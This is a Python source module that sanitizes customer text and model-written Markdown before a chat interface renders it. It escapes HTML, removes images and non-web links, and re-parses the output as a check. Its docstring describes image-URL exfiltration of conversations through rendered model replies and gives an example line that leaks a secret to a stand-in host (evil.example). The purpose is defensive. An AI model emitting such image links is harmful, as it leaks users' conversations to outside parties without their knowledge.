"""Text that is safe to hand to the chat's Markdown renderer.

Two rules (a Markdown image in a reply is a request to any host, so it can exfiltrate the conversation):

* customer text is shown as typed: every Markdown and HTML construct in it is escaped;
* model Markdown keeps its formatting (lists, bold, code, links to http/https/mailto) but loses raw
  HTML and every image, because an image URL is fetched by the agent's browser the moment it renders
  (`![](https://evil.example/?q=<secret>)` would leak the conversation without a click).

The chat renders Markdown in the browser (Gradio's bundled `marked`, GFM, then an HTML sanitizer that
keeps `<img>`), which is not the parser we run here. So safety cannot rest on agreeing with it about
where code spans or tables begin. Instead:

1. markdown-it-py (CommonMark, as the browser's renderer follows) finds the top-level code blocks,
   which are re-emitted with a fence longer than any backtick run inside and blank lines around, so
   every CommonMark/GFM renderer reads them as code; their text is kept verbatim;
2. everywhere else the two openings of the dangerous constructs are made literal, whatever structure
   a renderer sees: `![` (every image, inline or reference-style) becomes `!\\[`, and `<` before a
   letter, `/`, `!` or `?` (raw HTML, comments, autolinks) becomes `&lt;`. Inside an inline code span
   that shows as a stray character, never as markup. The browser renderer's raw `mermaid` block
   (its text goes into the page unescaped) is never opened;
3. markdown-it-py also finds images and links (wherever it sees them) so an image shows as
   "[image removed: alt]" and a link to anything but http/https/mailto as plain text;
4. the result is parsed again; should any image, raw HTML or unsafe link remain, the whole reply is
   shown as escaped text instead.

Both work on plain strings, so the history sidebar, the exports and the tests can use them too.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

_SAFE_SCHEMES = ("http://", "https://", "mailto:")
# Outside code, a '<' that opens a tag, comment, declaration or autolink becomes text.
_HTML_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
# The browser renderer's mermaid extension takes "```mermaid" at a block start and emits its text raw.
_MERMAID_OPEN = "```mermaid"
_INFO_WORD = re.compile(r"[\w+#.-]*")

# Customer text: characters that start Markdown syntax anywhere on a line...
_MD_INLINE = re.compile(r"([\\`*_\[\]{}()!|~$])")
# ...and at the start of a line (headings, lists, quotes, rules, setext underlines).
_MD_LINE_START = re.compile(r"^(\s*)([#+\-=>]|\d+[.)])", re.MULTILINE)
_WEB_ADDRESS = re.compile(r"://|\bwww\.", re.IGNORECASE)


def escape_customer_text(text: str) -> str:
    """Customer text for a Markdown renderer: it renders exactly as typed, no syntax, no HTML."""
    escaped = html.escape(text, quote=False)
    escaped = _MD_INLINE.sub(r"\\\1", escaped)
    escaped = _MD_LINE_START.sub(_escape_line_start, escaped)
    # A bare web address would become a link (GFM) that swallows the escapes above: keep it text.
    escaped = _WEB_ADDRESS.sub(lambda m: m.group(0).replace(":", "&#58;").replace(".", "&#46;"), escaped)
    # Leading spaces and tabs would make an indented code block, and the chatbot strips common
    # indentation (inspect.cleandoc) before rendering: entities survive both and show as spaces.
    return re.sub(r"^[ \t]+", _entity_spaces, escaped, flags=re.MULTILINE)


def clean_model_markdown(text: str) -> str:
    """Model Markdown with raw HTML shown as text, images removed and only web/mail links kept."""
    lines = text.splitlines(keepends=True)
    pieces: list[str] = []
    prose_start = 0
    for token in _parser().parse(text):
        if token.level != 0 or token.type not in ("fence", "code_block") or token.map is None:
            continue
        start, end = token.map
        pieces.append(_clean_prose("".join(lines[prose_start:start])))
        pieces.append(_code_block(token))
        prose_start = end
    pieces.append(_clean_prose("".join(lines[prose_start:])))
    cleaned = "".join(pieces)
    if not _is_inert(cleaned):  # belt and braces: never hand over what still parses as live markup
        return escape_customer_text(text)
    return cleaned


def _clean_prose(text: str) -> str:
    if not text:
        return text
    env: dict[str, Any] = {}
    _recorder().parse(text, env)
    for raw, alt in env.get("images", []):
        label = f": {escape_customer_text(' '.join(alt.split()))}" if alt.strip() else ""
        text = text.replace(raw, f"*[image removed{label}]*")
    for raw, href in env.get("links", []):
        if not _is_safe_href(href):
            text = text.replace(raw, "\\" + raw)  # "\[label](target)": shown as typed, not a link
    text = text.replace("![", "!\\[")
    text = text.replace(_MERMAID_OPEN, "```text")
    return _HTML_OPEN.sub("&lt;", text)


def _code_block(token: Token) -> str:
    """A top-level code block as a fence no content line can close, set apart by blank lines."""
    content = token.content if token.content.endswith("\n") or not token.content else token.content + "\n"
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * max(3, longest + 1)
    info = (_INFO_WORD.match(token.info.strip()) or _INFO_WORD.match(""))[0]  # type: ignore[index]
    if info.lower() == "mermaid":
        info = "text"
    return f"\n{fence}{info}\n{content}{fence}\n\n"


def _is_inert(markdown: str) -> bool:
    for token in _walk(_parser().parse(markdown)):
        if token.type in ("image", "html_inline", "html_block"):
            return False
        if token.type == "link_open" and not _is_safe_href(str(token.attrs.get("href", ""))):
            return False
    return True


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def _is_safe_href(href: str) -> bool:
    return href.strip().lower().startswith(_SAFE_SCHEMES)


_PARSER: MarkdownIt | None = None
_RECORDER: MarkdownIt | None = None


def _parser() -> MarkdownIt:
    """CommonMark plus GFM tables and strikethrough; every link target accepted, so none hides."""
    global _PARSER
    if _PARSER is None:
        _PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
        _PARSER.validateLink = lambda url: True  # type: ignore[method-assign]
    return _PARSER


def _recorder() -> MarkdownIt:
    """The same parser, noting the source text of every image and link it finds in env."""
    global _RECORDER
    if _RECORDER is None:
        md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
        md.validateLink = lambda url: True  # type: ignore[method-assign]
        for name in ("image", "link"):
            rule = next(r for r in md.inline.ruler.__rules__ if r.name == name).fn
            md.inline.ruler.at(name, _recording(rule, name))
        _RECORDER = md
    return _RECORDER


def _recording(rule: Callable[[StateInline, bool], bool], kind: str) -> Callable[[StateInline, bool], bool]:
    def record(state: StateInline, silent: bool) -> bool:
        start, num_tokens = state.pos, len(state.tokens)
        matched = rule(state, silent)
        if not matched or silent:
            return matched
        raw = state.src[start : state.pos]
        added = state.tokens[num_tokens:]
        if kind == "image":
            image = next(t for t in added if t.type == "image")
            state.env.setdefault("images", []).append((raw, image.content))
        else:
            link = next(t for t in added if t.type == "link_open")
            state.env.setdefault("links", []).append((raw, str(link.attrs.get("href", ""))))
        return True

    return record


def _entity_spaces(match: re.Match[str]) -> str:
    return match.group(0).replace("\t", "    ").replace(" ", "&nbsp;")


def _escape_line_start(match: re.Match[str]) -> str:
    indent, marker = match.group(1), match.group(2)
    if marker[0].isdigit():
        return f"{indent}{marker[:-1]}\\{marker[-1]}"
    return f"{indent}\\{marker}"
